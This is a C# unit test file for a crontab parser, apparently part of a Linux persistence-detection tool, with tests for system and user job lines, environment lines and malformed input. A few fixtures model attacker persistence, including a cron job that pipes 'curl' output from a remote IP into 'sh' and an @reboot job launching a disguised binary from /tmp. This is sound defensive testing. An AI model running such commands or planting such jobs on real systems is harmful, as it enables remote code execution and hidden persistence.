using Atalaya.Platform.Linux.Persistence;

namespace Atalaya.Platform.Linux.Tests.Persistence;

public sealed class CrontabParserTests
{
    [Theory]
    // This machine's /etc/cron.d/e2scrub_all.
    [InlineData("30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron",
        "30 3 * * 0", "root", "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron")]
    // Debian's default /etc/crontab line.
    [InlineData("17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly", "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly")]
    [InlineData("@reboot root /tmp/.x/kworker >/dev/null 2>&1", "@reboot", "root", "/tmp/.x/kworker >/dev/null 2>&1")]
    [InlineData("*/5 * * jan,feb mon-fri nobody curl -fsSL http://203.0.113.5/x | sh", "*/5 * * jan,feb mon-fri", "nobody", "curl -fsSL http://203.0.113.5/x | sh")]
    [InlineData("  @HOURLY   root  echo %hi%", "@HOURLY", "root", "echo %hi%")]
    public void Parses_system_crontab_jobs(string line, string schedule, string user, string command)
    {
        Assert.True(CrontabParser.TryParseLine(line, systemFormat: true, out var parsed));
        Assert.False(parsed.IsEnvironment);
        Assert.Equal(schedule, parsed.Schedule);
        Assert.Equal(user, parsed.User);
        Assert.Equal(command, parsed.Command);
        Assert.Null(parsed.Name);
    }

    [Theory]
    [InlineData("* * * * * /home/ana/.cache/x", "* * * * *", "/home/ana/.cache/x")]
    [InlineData("@reboot sleep 60; /var/tmp/a", "@reboot", "sleep 60; /var/tmp/a")]
    public void Parses_user_crontab_jobs_without_a_user_column(string line, string schedule, string command)
    {
        Assert.True(CrontabParser.TryParseLine(line, systemFormat: false, out var parsed));
        Assert.Equal(schedule, parsed.Schedule);
        Assert.Null(parsed.User);
        Assert.Equal(command, parsed.Command);
    }

    [Theory]
    [InlineData("SHELL=/bin/sh", "SHELL", "/bin/sh")]
    [InlineData("PATH = /tmp/.bin:/usr/bin", "PATH", "/tmp/.bin:/usr/bin")]
    [InlineData("MAILTO=\"\"", "MAILTO", "")]
    [InlineData("X='a b'", "X", "a b")]
    public void Parses_environment_lines(string line, string name, string value)
    {
        Assert.True(CrontabParser.TryParseLine(line, systemFormat: true, out var parsed));
        Assert.True(parsed.IsEnvironment);
        Assert.Equal(name, parsed.Name);
        Assert.Equal(value, parsed.Command);
        Assert.Null(parsed.Schedule);
    }

    [Theory]
    [InlineData("@reboot")]
    [InlineData("@never root /bin/true")]
    [InlineData("* * * *")]
    [InlineData("* * * * * root")]
    [InlineData("1 2 3 4 5")]
    [InlineData("* * ? * * root x")]
    [InlineData("not a cron line")]
    [InlineData("= value")]
    [InlineData("# comment")]
    [InlineData("")]
    public void Rejects_malformed_lines(string line) =>
        Assert.False(CrontabParser.TryParseLine(line, systemFormat: true, out _));

    [Fact]
    public void Parses_a_file_skipping_comments_and_counting_bad_lines()
    {
        const string text = "# /etc/crontab: system-wide crontab\nSHELL=/bin/sh\r\n\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\ngarbage here\n@reboot root /opt/x\n";
        var lines = CrontabParser.Parse(text, systemFormat: true, out var malformed);
        Assert.Equal(3, lines.Count);
        Assert.True(lines[0].IsEnvironment);
        Assert.Equal("/opt/x", lines[2].Command);
        Assert.Equal(1, malformed);
    }
}
